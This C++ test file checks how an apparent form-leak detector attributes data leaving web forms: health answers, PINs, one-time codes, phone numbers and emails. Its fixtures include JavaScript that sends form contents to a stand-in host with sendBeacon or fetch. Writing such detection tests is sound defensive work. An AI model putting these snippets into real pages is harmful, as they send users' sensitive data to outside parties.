// Whose value it is that leaves: chosen, short, spelled otherwise, or for a host of the site's own that was
// not asked before. The built program in a real browser.
#include <doctest/doctest.h>

#include <set>

#include "tests/e2e/visited.h"

using namespace formleak;
using namespace formleak::test;

namespace {

// "field kind" of what is seen leaving.
std::set<std::string> kinds_leaving(const Json& report) {
    std::set<std::string> out;
    for (const Json& leak : report["leaks"].items())
        if (leak["basis"].as_text() == "observed")
            out.insert(leak["field_name"].as_text() + " " + leak["data_kind"].as_text());
    return out;
}

std::set<std::string> seen_leaving(const std::string& form, const std::string& script) {
    Site site;
    site.page("/", page_of("<form action=/s method=post>" + form +
                           "<button>Skicka</button></form><script>document.forms[0].onsubmit=e=>{"
                           "e.preventDefault();const f=e.target,d=new FormData(f);" +
                           script + "}</script>"));
    return kinds_leaving(verify(site).report);
}

const std::string kPairs = "navigator.sendBeacon('https://t.example/e',JSON.stringify([...d]))",
                  kMembers =
                      "navigator.sendBeacon('https://t.example/e',"
                      "JSON.stringify(Object.fromEntries(d)))";
using Set = std::set<std::string>;

}  // namespace

TEST_CASE("attribution: an answer of yes or no is of what was asked") {
    const std::string yes_no =
        "<label><input type=radio name=q1 value=ja> Ja</label>"
        "<label><input type=radio name=q1 value=nej> Nej</label>";
    CHECK(seen_leaving("<fieldset><legend>Har du diabetes?</legend>" + yes_no + "</fieldset>", kPairs) ==
          Set{"q1 health"});
    CHECK(seen_leaving(
              "<div role=radiogroup aria-labelledby=t><b id=t>Har du haft cancer?</b>" + yes_no + "</div>",
              kMembers) == Set{"q1 health"});
    CHECK(seen_leaving("<p>Har du någon kronisk sjukdom?</p><p>" + yes_no + "</p>", kPairs) ==
          Set{"q1 health"});
    CHECK(seen_leaving("<p><label>Har du diabetes? <select name=q1><option value=''>Välj<option "
                       "value=ja>Ja<option value=nej>Nej</select></label></p>",
                       "fetch('https://t.example/',{method:'POST',mode:'no-cors',body:d})") ==
          Set{"q1 health"});
    CHECK(seen_leaving("<fieldset><legend>Har du handlat hos oss?</legend>" + yes_no + "</fieldset>", kPairs)
              .empty());
    CHECK(seen_leaving("<fieldset><legend>Har du diabetes?</legend>" + yes_no + "</fieldset>",
                       "fetch('https://t.example/?answer=ja&language=ja')")
              .empty());
}

TEST_CASE("attribution: what is short is known under its field's name, a code in boxes when it is joined") {
    const std::string pin =
        "<label>PIN-kod <input name=pin type=password inputmode=numeric maxlength=4 "
        "pattern='[0-9]{4}'></label>";
    CHECK(seen_leaving(pin, kMembers) == Set{"pin one_time_code"});
    CHECK(seen_leaving("<label>Användarnamn <input name=anv pattern='[a-z]{3}[0-9]{2}'></label>", kPairs) ==
          Set{"anv user_id"});
    std::string boxes = "Ange koden ";
    for (int i = 0; i < 6; ++i)
        boxes += "<input name=d" + std::to_string(i) + " maxlength=1 inputmode=numeric aria-label='Siffra " +
                 std::to_string(i + 1) + "'>";
    const std::string joined = "const c=[...f.querySelectorAll('input')].map(i=>i.value).join('');";
    CHECK(seen_leaving(boxes, joined + "if(/^[0-9]{6}$/.test(c))fetch('https://t.example/?c='+c)") ==
          Set{"d0 one_time_code"});
    CHECK(seen_leaving(boxes, joined + "fetch('https://t.example/?v=1.'+c+'7')").empty());
}

TEST_CASE("attribution: a telephone typed without its 0 leaves with its country in front") {
    CHECK(seen_leaving("<select name=cc><option value='+46'>+46<option value='+47'>+47</select><label>Mobil "
                       "<input type=tel name=tel placeholder='70 123 45 67'></label>",
                       "fetch('https://t.example/?x='+encodeURIComponent(f.cc.value+f.tel.value.replace("
                       "/\\D/g,'').replace(/^0/,'')))") == Set{"tel phone"});
}

TEST_CASE("attribution: a field is filled with what stands beside it") {
    const std::string send = "if(/@/.test(f.f3.value))fetch('https://t.example/?x='+f.f3.value)";
    for (const char* form :
         {"<table><tr><td>E-post<td><input name=f3></table>", "<p>E-post<br><input name=f3></p>",
          "<div><div>E-postadress *</div><div><input name=f3></div></div>",
          "<dl><dt>E-post</dt><dd><input name=f3></dd></dl>", "<div><b>E-post:</b> <input name=f3></div>",
          "<table><tr><th>Namn<th>E-post<tr><td><input name=f2><td><input name=f3></table>"}) {
        CAPTURE(std::string(form));
        CHECK(seen_leaving(form, send).contains("f3 email"));
        // Drawn by a script: nothing was read of it before.
        Site site;
        site.page("/", page_of("<div id=a></div><script>a.innerHTML=`<form>" + std::string(form) +
                               "<button>Skicka</button></form>`;document.forms[0].onsubmit=e=>{"
                               "e.preventDefault();const f=e.target;" +
                               send + "}</script>"));
        CHECK(kinds_leaving(verify(site).report).contains("f3 email"));
    }
}
